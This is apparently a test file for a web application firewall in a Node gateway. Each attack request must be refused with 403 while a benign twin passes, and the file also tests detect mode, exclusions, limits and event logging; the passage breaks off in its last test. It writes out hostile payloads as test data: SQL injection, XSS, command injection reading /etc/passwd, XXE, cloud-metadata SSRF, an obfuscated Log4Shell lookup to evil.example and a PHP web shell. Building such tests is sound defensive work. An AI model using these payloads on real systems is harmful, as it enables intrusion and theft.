/**
 * The waf stage through the real gateway in front of a real Node upstream: each attack
 * is refused with 403 JSON and never reaches the app; the legitimate twin passes unchanged.
 * Also: malformed bodies, detect mode, per-route settings, exclusions, limits, security events
 * (stored, logged, counted, served by the admin API).
 */
import { test, describe, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startGateway, type TestGateway } from '../helpers/gateway.js'
import { startUpstream, type TestUpstream } from '../helpers/upstream.js'
import { request, rawRequest, type RawResponse, type TestResponse } from '../helpers/http.js'
import { InputCollector } from '../../src/stages/waf/inputs.js'
import { addBody } from '../../src/stages/waf/body.js'

const json = { 'content-type': 'application/json' }
const form = { 'content-type': 'application/x-www-form-urlencoded' }

function assertBlocked(r: TestResponse, up: TestUpstream, seenBefore: number): void {
  assert.equal(r.status, 403, r.text)
  const body = r.json()
  assert.equal(body.error, 'blocked')
  assert.equal(body.code, 'DRAWBRIDGE_ERR_BLOCKED')
  assert.equal(body.request_id, r.headers['x-request-id'])
  assert.deepEqual(Object.keys(body).sort(), ['code', 'error', 'request_id'], 'no rule or category is revealed')
  assert.equal(up.seen.length, seenBefore, 'the blocked request reached the app')
}

describe('waf stage: attacks blocked, legitimate requests pass', () => {
  let up: TestUpstream
  let gw: TestGateway
  before(async () => {
    up = await startUpstream()
    gw = await startGateway(
      {
        upstream: up.url,
        admin: { listen: '127.0.0.1:0', token: { from_env: 'ADMIN_TOKEN' } },
        routes: [
          { name: 'snippets', match: { path: '/api/snippets' }, waf: { mode: 'detect' } },
          { name: 'uploads', match: { path: '/api/raw' }, waf: { enabled: false } },
        ],
        waf: {
          exclusions: [{ path: '/api/code', location: 'body', name: 'source', rules: ['sqli', 'xpath', 'xss'] }],
        },
      },
      { ADMIN_TOKEN: 'admin-secret-token-123' },
    )
  })
  after(async () => {
    await gw.close()
    await up.close()
  })

  const cases: { name: string; attack: () => Promise<TestResponse>; legit: () => Promise<TestResponse> }[] = [
    {
      name: 'SQL injection in the query',
      attack: () => request(gw.url + '/api/users?id=1%27%20OR%201%3D1--'),
      legit: () => request(gw.url + '/api/users?name=O%27Brien&plan=select+a+plan'),
    },
    {
      name: 'SQL injection in a JSON body (nested)',
      attack: () =>
        request(gw.url + '/api/search', { method: 'POST', headers: json, body: JSON.stringify({ filter: { name: "x' UNION SELECT password FROM users--" } }) }),
      legit: () =>
        request(gw.url + '/api/search', { method: 'POST', headers: json, body: JSON.stringify({ filter: { name: 'drop-down menu', note: '1 + 1 = 2' } }) }),
    },
    {
      name: 'XSS in a form body',
      attack: () => request(gw.url + '/api/comments', { method: 'POST', headers: form, body: 'text=%3Cscript%3Ealert(1)%3C%2Fscript%3E' }),
      legit: () => request(gw.url + '/api/comments', { method: 'POST', headers: form, body: 'text=I+like+%3Cb%3Ebold%3C%2Fb%3E+text' }),
    },
    {
      name: 'command injection in a JSON value',
      attack: () => request(gw.url + '/api/ping', { method: 'POST', headers: json, body: JSON.stringify({ host: '127.0.0.1; cat /etc/passwd' }) }),
      legit: () => request(gw.url + '/api/ping', { method: 'POST', headers: json, body: JSON.stringify({ host: 'example.com' }) }),
    },
    {
      name: 'path traversal in the path (junk-separated)',
      // (dot segments in any spelling, and encoded slashes, are refused earlier with 400 by the
      // canonical path check; shapes that are not dot segments to a router reach the WAF)
      attack: () => request(gw.url + '/files/..../..../etc/passwd'),
      legit: () => request(gw.url + '/files/report-2026.pdf'),
    },
    {
      name: 'XSS in a cookie',
      attack: () => request(gw.url + '/api/me', { headers: { cookie: 'theme="><svg onload=alert(1)>' } }),
      legit: () => request(gw.url + '/api/me', { headers: { cookie: 'theme=dark; lang=en-GB' } }),
    },
    {
      name: 'SQL injection in a custom header',
      attack: () => request(gw.url + '/api/me', { headers: { 'x-tenant': "1' AND SLEEP(5)-- -" } }),
      legit: () => request(gw.url + '/api/me', { headers: { 'x-tenant': 'acme-corp' } }),
    },
    {
      name: 'traversal in a multipart file name',
      attack: () =>
        request(gw.url + '/api/upload', {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=b0' },
          body: '--b0\r\nContent-Disposition: form-data; name="file"; filename="../../../etc/passwd"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b0--\r\n',
        }),
      legit: () =>
        request(gw.url + '/api/upload', {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=b0' },
          body: '--b0\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday photos (2026)\r\n--b0\r\nContent-Disposition: form-data; name="file"; filename="beach.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--b0--\r\n',
        }),
    },
    {
      name: 'XSS in an XML element',
      attack: () =>
        request(gw.url + '/api/feed', {
          method: 'POST',
          headers: { 'content-type': 'application/xml' },
          body: '<feed><title>&lt;img src=x onerror=alert(1)&gt;</title></feed>',
        }),
      legit: () =>
        request(gw.url + '/api/feed', {
          method: 'POST',
          headers: { 'content-type': 'application/xml' },
          body: '<feed lang="en"><title>Fish &amp; chips</title></feed>',
        }),
    },
    {
      name: 'an attack in a JSON key',
      attack: () => request(gw.url + '/api/search', { method: 'POST', headers: json, body: JSON.stringify({ "name' OR '1'='1": 1 }) }),
      legit: () => request(gw.url + '/api/search', { method: 'POST', headers: json, body: JSON.stringify({ 'first name': 'Ann' }) }),
    },
    {
      name: 'SSRF to the cloud metadata address in a JSON value',
      attack: () =>
        request(gw.url + '/api/webhooks', { method: 'POST', headers: json, body: JSON.stringify({ url: 'http://169.254.169.254/latest/meta-data/iam/' }) }),
      legit: () => request(gw.url + '/api/webhooks', { method: 'POST', headers: json, body: JSON.stringify({ url: 'https://hooks.example.com/in/42' }) }),
    },
    {
      name: 'template injection in a form field',
      attack: () =>
        request(gw.url + '/api/greeting', {
          method: 'POST',
          headers: form,
          body: 'name=' + encodeURIComponent("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        }),
      legit: () => request(gw.url + '/api/greeting', { method: 'POST', headers: form, body: 'name=' + encodeURIComponent('Hello {{name}}!') }),
    },
    {
      name: 'Log4Shell in the Authorization header (obfuscated)',
      attack: () => request(gw.url + '/api/me', { headers: { authorization: 'Bearer ${${lower:j}ndi:${lower:l}dap://evil.example/a}' } }),
      legit: () => request(gw.url + '/api/me', { headers: { authorization: 'Bearer eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxIn0.c2ln' } }),
    },
    {
      name: 'NoSQL operator in a query parameter name',
      attack: () => request(gw.url + '/api/login?username=admin&password%5B%24ne%5D=x'),
      legit: () => request(gw.url + '/api/login?username=admin&price=%2450'),
    },
    {
      name: 'prototype pollution in a JSON key',
      attack: () => request(gw.url + '/api/settings', { method: 'POST', headers: json, body: '{"__proto__": {"isAdmin": true}}' }),
      legit: () => request(gw.url + '/api/settings', { method: 'POST', headers: json, body: '{"constructor": "Acme Builders", "prototype": "v2"}' }),
    },
    {
      // no Content-Type: a form-shaped body is read as a form (names and values apart, decoded)
      name: 'SQL injection in an untyped form-shaped body',
      attack: () => request(gw.url + '/api/search', { method: 'POST', body: 'q=shoes&id=1%27+UNION+SELECT+password+FROM+users--' }),
      legit: () => request(gw.url + '/api/search', { method: 'POST', body: 'q=select+a+plan&note=O%27Brien' }),
    },
    {
      name: 'XXE in an XML body',
      attack: () =>
        request(gw.url + '/api/feed', {
          method: 'POST',
          headers: { 'content-type': 'application/xml' },
          body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        }),
      legit: () => request(gw.url + '/api/feed', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<?xml version="1.0"?><r>plain</r>' }),
    },
    {
      name: 'CRLF injection in a query value',
      attack: () => request(gw.url + '/api/redirect?next=%2Fhome%0D%0ASet-Cookie%3A%20session%3Devil'),
      legit: () => request(gw.url + '/api/redirect?next=%2Fhome%3Ftab%3D2'),
    },
    {
      // a text/plain body shaped like a form is also read as one
      name: 'a Java class for a deserializer in a text/plain form-shaped body',
      attack: () => request(gw.url + '/api/import', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'type=java.lang.ProcessBuilder' }),
      legit: () =>
        request(gw.url + '/api/import', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'type=java.util.List&note=see java.lang.String' }),
    },
    {
      // the file-name checks of multipart parts apply to raw-upload headers too
      name: 'a PHP script uploaded under an X-File-Name header',
      attack: () => request(gw.url + '/api/upload', { method: 'POST', headers: { 'content-type': 'image/png', 'x-file-name': 'avatar.php5...' }, body: 'x' }),
      legit: () => request(gw.url + '/api/upload', { method: 'POST', headers: { 'content-type': 'image/png', 'x-file-name': 'avatar.png' }, body: 'x' }),
    },
    {
      name: 'a PHP script as a multipart file name',
      attack: () =>
        request(gw.url + '/api/upload', {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=b0' },
          body: '--b0\r\nContent-Disposition: form-data; name="file"; filename="photo.php.jpg"\r\nContent-Type: image/jpeg\r\n\r\n<?php system($_GET[c]); ?>\r\n--b0--\r\n',
        }),
      legit: () =>
        request(gw.url + '/api/upload', {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=b0' },
          body: '--b0\r\nContent-Disposition: form-data; name="page"\r\n\r\nindex.php\r\n--b0\r\nContent-Disposition: form-data; name="file"; filename="php-cheatsheet.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF\r\n--b0--\r\n',
        }),
    },
    {
      // a parser differential (CVE-2017-12635), refused before the app's parser sees it
      name: 'a JSON key given twice with different values',
      attack: () => request(gw.url + '/api/users', { method: 'POST', headers: json, body: '{"name":"eve","roles":[],"roles":["_admin"]}' }),
      legit: () => request(gw.url + '/api/users', { method: 'POST', headers: json, body: '{"name":"eve","roles":[],"profile":{"roles":["reader"]}}' }),
    },
    {
      // XSS under base64, under URL encoding, under a JS escape (`al\u0065rt(1)`), in a cookie
      name: 'a JS call three decodings deep in a cookie',
      attack: () => request(gw.url + '/api/items', { headers: { cookie: 'pref=YWwlNUN1MDA2NXJ0JTI4MSUyOQ==' } }),
      legit: () => request(gw.url + '/api/items', { headers: { cookie: `pref=${Buffer.from('dark%20mode%5Cu0021').toString('base64')}` } }),
    },
    {
      // a valueless query parameter is data in its name; base64's '+' and '=' stay as sent
      name: 'a base64 payload as a valueless query parameter',
      attack: () => request(gw.url + '/api/items?' + Buffer.from('"><script>alert(0x1)</script>>').toString('base64')),
      legit: () => request(gw.url + '/api/items?debug&' + Buffer.from('hello world, plain text >>').toString('base64')),
    },
    {
      // PHP/qs read `a[key]` as object keys the app uses
      name: 'SQL in the bracket key of a query parameter name',
      attack: () => request(gw.url + '/api/items?name[0%20;select%20sleep(8);;%23%20%20]=user'),
      legit: () => request(gw.url + '/api/items?items[0][name]=scarf&filter[status]=open&sort[created_at]=desc'),
    },
    {
      // editor swap files, dumps, version control, a script name cut short
      name: 'a swap copy of a PHP file in the path',
      attack: () => request(gw.url + '/app/settings.php.swp'),
      legit: () => request(gw.url + '/downloads/report-2026.zip'),
    },
    {
      name: 'an attack tool announcing itself',
      attack: () => request(gw.url + '/api/items', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }),
      legit: () => request(gw.url + '/api/items', { headers: { 'user-agent': 'python-requests/2.31.0' } }),
    },
  ]

  for (const c of cases) {
    test(`${c.name}: blocked, and the legitimate request passes`, async () => {
      const n = up.seen.length
      assertBlocked(await c.attack(), up, n)
      const ok = await c.legit()
      assert.equal(ok.status, 200, ok.text)
      assert.equal(up.seen.length, n + 1)
    })
  }

  test('a chunked body is inspected too, and an inspected body reaches the app byte for byte', async () => {
    const n = up.seen.length
    const chunk = (s: string) => `${Buffer.byteLength(s).toString(16)}\r\n${s}\r\n`
    const attack = await rawRequest(
      gw.url,
      'POST /api/search HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n' +
        chunk('{"q": "1 UNION ') +
        chunk('SELECT 1,2,3-- "}') +
        '0\r\n\r\n',
    )
    assert.equal(attack.status, 403)
    assert.equal(up.seen.length, n)
    const body = JSON.stringify({ q: 'café crème', tags: ['a', 'b'], n: 3 })
    const ok = await request(gw.url + '/api/search', { method: 'POST', headers: json, body })
    assert.equal(ok.status, 200)
    assert.equal(up.seen.at(-1)!.body.toString('utf8'), body)
  })

  test('a body that does not parse as its declared type gets 400 and never reaches the app', async () => {
    const n = up.seen.length
    for (const [type, body] of [
      ['application/json', '{"a": 1,'],
      ['application/xml', '<a><b></a>'],
      ['multipart/form-data', '--x\r\n\r\n'],
    ] as const) {
      const r = await request(gw.url + '/api/search', { method: 'POST', headers: { 'content-type': type }, body })
      assert.equal(r.status, 400, `${type}: ${r.text}`)
      assert.equal(r.json().code, 'DRAWBRIDGE_ERR_MALFORMED_BODY')
      assert.equal(r.json().request_id, r.headers['x-request-id'])
    }
    assert.equal(up.seen.length, n)
  })

  test('regression: a multipart part with an empty name got a 500 instead of being inspected (found by fuzzing the WAF)', async () => {
    const r = await request(gw.url + '/api/upload', {
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=XyZ' },
      body: '--XyZ\r\nContent-Disposition: form-data; name=""\r\n\r\n\r\n--XyZ--\r\n',
    })
    assert.equal(r.status, 200)
    const attack = await request(gw.url + '/api/upload', {
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=XyZ' },
      body: '--XyZ\r\nContent-Disposition: form-data; name=""\r\n\r\n<script>alert(1)</script>\r\n--XyZ--\r\n',
    })
    assert.equal(attack.status, 403)
  })

  test('a browser on a local page (Origin: http://localhost) is not taken for SSRF', async () => {
    const r = await request(gw.url + '/api/items', { headers: { origin: 'http://localhost:3000', referer: 'http://127.0.0.1:3000/app' } })
    assert.equal(r.status, 200)
  })

  test('detect mode (per route) logs the attack and lets it through', async () => {
    const n = up.seen.length
    const r = await request(gw.url + "/api/snippets?q=1'%20UNION%20SELECT%20null--")
    assert.equal(r.status, 200)
    assert.equal(up.seen.length, n + 1)
    const id = r.headers['x-request-id'] as string
    const res = await request(`${gw.adminUrl}/api/events?request_id=${id}`, { headers: { authorization: 'Bearer admin-secret-token-123' } })
    assert.equal(res.status, 200)
    const events = res.json().events
    assert.equal(events.length, 1)
    assert.equal(events[0].action, 'logged')
    assert.equal(events[0].category, 'sqli')
    assert.equal(events[0].route, 'snippets')
  })

  test('a route with the WAF off is not inspected', async () => {
    const r = await request(gw.url + "/api/raw?q=1'%20UNION%20SELECT%20null--")
    assert.equal(r.status, 200)
  })

  test('an exclusion lets one field of one route through; the same attack elsewhere is blocked', async () => {
    const code = { source: "x' OR '1'='1' --", lang: 'sql' }
    const ok = await request(gw.url + '/api/code', { method: 'POST', headers: json, body: JSON.stringify(code) })
    assert.equal(ok.status, 200)
    const n = up.seen.length
    assertBlocked(await request(gw.url + '/api/code', { method: 'POST', headers: json, body: JSON.stringify({ title: code.source }) }), up, n)
    assertBlocked(await request(gw.url + '/api/other', { method: 'POST', headers: json, body: JSON.stringify(code) }), up, n)
  })

  test('an exclusion holds only for the path case it names (it covered /API/CODE, which a case-sensitive app routes elsewhere)', async () => {
    const code = { source: "x' OR '1'='1' --", lang: 'sql' }
    const n = up.seen.length
    for (const path of ['/API/CODE', '/Api/code', '/api/%43ode']) {
      assertBlocked(await request(gw.url + path, { method: 'POST', headers: json, body: JSON.stringify(code) }), up, n)
    }
    assert.equal((await request(gw.url + '/api/%63ode', { method: 'POST', headers: json, body: JSON.stringify(code) })).status, 200)
  })

  test('security events: stored with a redacted snippet, logged, counted, filterable and paginated', async () => {
    const secret = "hunter2' OR '1'='1"
    const r = await request(gw.url + '/api/login', { method: 'POST', headers: json, body: JSON.stringify({ username: 'bob', password: secret }) })
    assert.equal(r.status, 403)
    const id = r.headers['x-request-id'] as string
    const auth = { authorization: 'Bearer admin-secret-token-123' }

    const denied = await request(`${gw.adminUrl}/api/events`)
    assert.equal(denied.status, 401, 'the events API needs the admin token')

    const one = (await request(`${gw.adminUrl}/api/events?request_id=${id}`, { headers: auth })).json().events
    assert.equal(one.length, 1)
    const e = one[0]
    assert.equal(e.action, 'blocked')
    assert.equal(e.category, 'sqli')
    assert.equal(e.location, 'body')
    assert.equal(e.name, 'password')
    assert.equal(e.snippet, '[REDACTED]', 'a password is never stored')
    assert.equal(e.method, 'POST')
    assert.equal(e.path, '/api/login')
    assert.equal(e.client_ip, '127.0.0.1')
    assert.match(e.rule, /^sqli-/)
    assert.ok(e.score >= 0.8 && e.confidence >= 0.8)
    assert.ok(!JSON.stringify(gw.logs()).includes('hunter2'), 'the password reached the log')
    const logged = gw.logs().find((l) => l.msg === 'security event' && l.request_id === id)
    assert.ok(logged !== undefined, 'the event is in the log')

    // newest first, paginated with the `next` cursor, filters combine
    const page1 = (await request(`${gw.adminUrl}/api/events?limit=2`, { headers: auth })).json()
    assert.equal(page1.events.length, 2)
    assert.ok(page1.events[0].id > page1.events[1].id)
    assert.equal(page1.events[0].request_id, id)
    const page2 = (await request(`${gw.adminUrl}/api/events?limit=2&before=${page1.next}`, { headers: auth })).json()
    assert.ok(page2.events.length > 0)
    assert.ok(page2.events[0].id < page1.events[1].id)
    const xss = (await request(`${gw.adminUrl}/api/events?category=xss&action=blocked`, { headers: auth })).json().events
    assert.ok(xss.length >= 2)
    assert.ok(xss.every((x: { category: string; action: string }) => x.category === 'xss' && x.action === 'blocked'))
    const bad = await request(`${gw.adminUrl}/api/events?limit=9999`, { headers: auth })
    assert.equal(bad.status, 400)
    assert.equal((await request(`${gw.adminUrl}/api/events?sort=rule`, { headers: auth })).status, 400)

    const metrics = (await request(`${gw.adminUrl}/metrics`, { headers: auth })).text
    assert.match(metrics, /drawbridge_waf_detections_total\{category="sqli",action="blocked"\} [1-9]/)
    assert.match(metrics, /drawbridge_rejections_total\{stage="waf",reason="attack"\} [1-9]/)
  })
})

describe('waf limits and the SQLite event store', () => {
  let up: TestUpstream
  let dir: string
  before(async () => {
    up = await startUpstream()
    dir = mkdtempSync(join(tmpdir(), 'drawbridge-waf-'))
  })
  after(async () => {
    await up.close()
    rmSync(dir, { recursive: true, force: true })
  })

  test('past max_inputs: blocked by default, inspected as far as the limit with on_exceed: allow', async () => {
    const many = Array.from({ length: 40 }, (_, i) => `p${i}=v`).join('&')
    const block = await startGateway({ upstream: up.url, waf: { limits: { max_inputs: 16 } } })
    const allow = await startGateway({ upstream: up.url, waf: { limits: { max_inputs: 16, on_exceed: 'allow' } } })
    try {
      const r = await request(block.url + '/api?' + many)
      assert.equal(r.status, 403)
      assert.equal(r.json().error, 'blocked')
      assert.equal((await request(block.url + '/api?a=1&b=2')).status, 200)
      assert.equal((await request(allow.url + '/api?' + many)).status, 200)
      // within the limit, an attack is still caught
      assert.equal((await request(allow.url + "/api?q=1'%20or%20'1'%3D'1")).status, 403)
    } finally {
      await block.close()
      await allow.close()
    }
  })

  test('deeply nested JSON past max_depth is refused', async () => {
    const gw = await startGateway({ upstream: up.url, waf: { limits: { max_depth: 8 } } })
    try {
      const deep = '['.repeat(20) + '"x"' + ']'.repeat(20)
      assert.equal((await request(gw.url + '/api', { method: 'POST', headers: json, body: deep })).status, 403)
      assert.equal((await request(gw.url + '/api', { method: 'POST', headers: json, body: '[[["x"]]]' })).status, 200)
    } finally {
      await gw.close()
    }
  })

  test('events survive a restart in the SQLite file', async () => {
    const path = join(dir, 'events.db')
    const first = await startGateway({ upstream: up.url, storage: { sqlite: { path } } })
    const r = await request(first.url + '/api?x=%3Cscript%3Ealert(1)%3C/script%3E')
    assert.equal(r.status, 403)
    await first.close()
    const second = await startGateway({ upstream: up.url, storage: { sqlite: { path } } })
    try {
      const events = (await request(`${second.adminUrl}/api/events`)).json().events
      assert.equal(events.length, 1)
      assert.equal(events[0].request_id, r.headers['x-request-id'])
      assert.equal(events[0].category, 'xss')
      assert.equal(events[0].snippet, '%3Cscript%3Ealert(1)%3C/script%3E')
    } finally {
      await second.close()
    }
  })
})

test('JSON paths stay right from body to body, also after a flood of keys starts the path tree afresh', () => {
  const names = (doc: unknown): string[] => {
    const c = new InputCollector({ maxInputs: 100_000, maxBytes: 1 << 24, maxDepth: 32 })
    assert.equal(addBody(c, 'json', 'application/json', Buffer.from(JSON.stringify(doc))), true)
    return c.inputs.map((i) => i.name)
  }
  const order = { user: { name: 'a', tags: ['x', { code: 'y' }] } }
  const expected = ['user.name', 'user.tags', 'user.tags.code']
  assert.deepEqual(names(order), expected)
  assert.deepEqual(names(order), expected)
  const flood = Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`k${i}`, { ['v'.repeat(60)]: i }]))
  assert.equal(names(flood).length, 5000)
  assert.deepEqual(names(order), expected)
  assert.deepEqual(names({ user: 'plain' }), ['user'])
})

/** A POST written byte for byte (a Content-Type undici would not send as is), body as UTF-8. */
function rawPost(url: string, path: string, contentType: string | null, body: string): Promise<RawResponse> {
  const data = Buffer.from(body, 'utf8')
  const head =
    `POST ${path} HTTP/1.1\r\nHost: localhost\r\n` +
    (contentType === null ? '' : `Content-Type: ${contentType}\r\n`) +
    `Content-Length: ${data.length}\r\nConnection: close\r\n\r\n`
  return rawRequest(url, Buffer.concat([Buffer.from(head, 'latin1'), data]))
}

describe('waf: a body is judged as the app will parse it, or refused', () => {
  let up: TestUpstream
  let gw: TestGateway
  before(async () => {
    up = await startUpstream()
    gw = await startGateway({ upstream: up.url })
  })
  after(async () => {
    await gw.close()
    await up.close()
  })

  const sqli = JSON.stringify({ filter: { name: "x' UNION SELECT password FROM users--" } })
  const benign = JSON.stringify({ filter: { name: 'drop-down menu' } })

  /** The status, and that a refused request never reached the app. */
  async function judged(contentType: string | null, body: string): Promise<number> {
    const n = up.seen.length
    const r = await rawPost(gw.url, '/api/search', contentType, body)
    if (r.status !== 200) {
      assert.equal(up.seen.length, n, `a ${r.status} reached the app`)
      assert.equal(JSON.parse(r.body).request_id, r.header('x-request-id'))
    }
    return r.status
  }

  test('regression: a multipart body that ends inside a file part is 400, not an uncaught error that ends the process', async () => {
    const n = up.seen.length
    for (const body of [
      '--B\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nx',
      '--B\r\nContent-Disposition: form-data; name="f"; filename="a"\r\nContent-Type: text/plain\r\n\r\n',
      '--B\r\nContent-Disposition: form-data; name="t"\r\n\r\nvalue\r\n--B\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nabc\r\n--',
    ]) {
      const r = await rawPost(gw.url, '/health', 'multipart/form-data; boundary=B', body)
      assert.equal(r.status, 400, body)
      assert.equal(JSON.parse(r.body).code, 'DRAWBRIDGE_ERR_MALFORMED_BODY')
    }
    assert.equal(up.seen.length, n)
    const whole = '--B\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nx\r\n--B--\r\n'
    assert.equal((await rawPost(gw.url, '/health', 'multipart/form-data; boundary=B', whole)).status, 200)
    assert.equal(up.seen.length, n + 1)
  })

  test('regression: control characters and obs-text in Content-Type (a trailing U+0085 made a +json type binary) are refused', async () => {
    for (const odd of ['application/vnd.api+json\x85', 'application/json\xa0', '\x85application/json', 'application/json;\x85charset=utf-8']) {
      assert.equal(await judged(odd, benign), 400, JSON.stringify(odd))
    }
    assert.equal(await judged('application/vnd.api+json', benign), 200)
  })

  test('regression: a +json or +xml type is inspected even where a binary vendor prefix once matched; listed binary types stay uninspected', async () => {
    assert.equal(await judged('application/vnd.api+json', sqli), 403)
    assert.equal(await judged('application/vnd.contoso.order+json; charset=utf-8', sqli), 403)
    assert.equal(await judged('application/vnd.contoso+xml', "<q>x' UNION SELECT password FROM users--</q>"), 403)
    // a vendor type not known to be binary is inspected as text
    assert.equal(await judged('application/vnd.contoso.report', "x' UNION SELECT password FROM users--"), 403)
    // whole binary types are not this stage's business (uploads are)
    assert.equal(await judged('application/vnd.ms-excel', "x' UNION SELECT password FROM users--"), 200)
    assert.equal(await judged('image/png', "x' UNION SELECT password FROM users--"), 200)
  })

  test('regression: JSON declared as application/octet-stream (parsed anyway by get_json(force=True)) is inspected; real binary streams through', async () => {
    const octet = { 'content-type': 'application/octet-stream' }
    const post = (body: string | Buffer, headers: Record<string, string> = octet) => request(gw.url + '/api/blob', { method: 'POST', headers, body })
    const utf16 = (t: string, bom: boolean) => Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(t, 'utf16le')])
    let n = up.seen.length
    for (const attack of [sqli, `\r\n  ${sqli}`, utf16(sqli, true), utf16(sqli, false), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(sqli)])]) {
      assertBlocked(await post(attack), up, n)
    }
    assertBlocked(await post(sqli, { 'content-type': 'application/pdf' }), up, n)
    // chunked, and a first chunk of white space only
    const chunked = (chunks: string[]) =>
      rawRequest(
        gw.url,
        `POST /api/blob HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n` +
          chunks.map((c) => `${Buffer.byteLength(c).toString(16)}\r\n${c}\r\n`).join('') +
          '0\r\n\r\n',
      )
    assert.equal((await chunked([sqli])).status, 403)
    assert.equal(up.seen.length, n)
    // the legitimate twins: benign JSON, a PNG holding the same text, bytes that only start like JSON
    assert.equal((await post(benign)).status, 200)
    assert.equal(up.seen.at(-1)!.body.toString(), benign)
    n = up.seen.length
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(sqli), Buffer.alloc(300_000, 7)])
    assert.equal((await post(png, { 'content-type': 'image/png' })).status, 200)
    assert.equal((await post(png)).status, 200)
    assert.ok(up.seen.at(-1)!.body.equals(png), 'a streamed binary body arrives unchanged')
    const notJson = Buffer.concat([Buffer.from('{'), Buffer.from([0xc3, 0x28, 0x00, 0xff]), Buffer.from(sqli)])
    assert.equal((await post(notJson)).status, 200)
    assert.ok(up.seen.at(-1)!.body.equals(notJson), 'a body that only starts like JSON arrives unchanged')
    assert.equal((await chunked(['plain bytes ', 'and more'])).status, 200)
    assert.equal(up.seen.length, n + 4)
  })

  test('Content-Type read as Starlette and werkzeug read it: case, spaces and tabs before parameters, quoted charset', async () => {
    for (const ct of ['Application/JSON', 'application/json ; charset="UTF-8"', 'application/json\t;charset=utf-8', ' application/json ']) {
      assert.equal(await judged(ct, sqli), 403, ct)
      assert.equal(await judged(ct, benign), 200, ct)
    }
  })

  test('regression: a charset the WAF does not read alike (UTF-16, UTF-7) is refused, not judged as UTF-8', async () => {
    const utf7 = '{"q": "+ACc- OR +ACc-1+ACc-=+ACc-1"}'
    for (const ct of [
      'application/json; charset=utf-16',
      'application/json; charset=UTF-7',
      'application/x-www-form-urlencoded; charset=utf-7',
      'text/plain; charset=utf-32',
      'application/json; charset=utf-8; charset=utf-16',
    ]) {
      assert.equal(await judged(ct, benign), 400, ct)
    }
    assert.equal(await judged('application/json; charset=utf-16', utf7), 400)
    assert.equal(await judged('application/json; charset=utf-8', benign), 200)
    assert.equal(await judged('text/xml; charset=us-ascii', '<a>b</a>'), 200)
    // the XML declaration names the encoding an XML parser decodes by
    assert.equal(await judged('application/xml', '<?xml version="1.0" encoding="UTF-7"?><q>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</q>'), 400)
    assert.equal(await judged('application/xml', '<?xml version="1.0" encoding="UTF-8"?><q>fine</q>'), 200)
  })

  test('a body without Content-Type that is JSON is judged as JSON (FastAPI parses it as such)', async () => {
    assert.equal(await judged(null, sqli), 403)
    assert.equal(await judged(null, benign), 200)
    assert.equal(await judged(null, 'just some text'), 200)
  })

  test('regression: XML nested deeper than the parser allows hits max_depth instead of passing as one text', async () => {
    const deep = (n: number, inner: string) => '<a>'.repeat(n) + inner + '</a>'.repeat(n)
    assert.equal(await judged('application/xml', deep(150, 'x')), 403)
    assert.equal(await judged('application/xml', deep(40, 'x')), 403)
    assert.equal(await judged('application/xml', deep(10, 'x')), 200)
  })

  test('regression: XML the parser refuses for its DOCTYPE is never forwarded unparsed', async () => {
    // a parameter entity: refused (as an attack where the XXE analyzer sees one, else as malformed)
    const param = await judged('application/xml', '<!DOCTYPE r [<!ENTITY % p "x">]><r>1</r>')
    assert.ok(param === 400 || param === 403, String(param))
    assert.equal(await judged('application/xml', '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'), 403)
    assert.equal(await judged('application/xml', '<r a="1">fine</r>'), 200)
  })
})

test('XML deeper than the parser nests is a depth hit: with on_exceed: allow it is judged as text', async () => {
  const up = await startUpstream()
  const gw = await startGateway({ upstream: up.url, waf: { limits: { on_exceed: 'allow' } } })
  try {
    const deep = (inner: string) => '<a>'.repeat(1100) + inner + '</a>'.repeat(1100)
    assert.equal((await rawPost(gw.url, '/api', 'application/xml', deep('plain words'))).status, 200)
    assert.equal((await rawPost(gw.url, '/api', 'application/xml', deep('<b>x</b><b>1 UNION SELECT password FROM users--</b>'))).status, 403)
  } finally {
    await gw.close()
    await up.close()
  }
})

// (import declarations are hoisted: these serve the FastAPI test below)
import { fastApiSkipReason, startFastApi } from '../helpers/fastapi.js'

test('in front of real FastAPI: a body FastAPI parses as JSON is judged as JSON, whatever the spelling of its type', async (t) => {
  const app = await startFastApi()
  if (app === null) return t.skip(fastApiSkipReason)
  const gw = await startGateway({ upstream: app.url })
  try {
    const attack = JSON.stringify({ name: "x' UNION SELECT password FROM users--", price: 1 })
    const legit = JSON.stringify({ name: 'drop-down menu', price: 1 })
    // FastAPI strips U+0085 (Python's str.strip) and parses `application/vnd.api+json` as JSON:
    // refused before it reaches the app
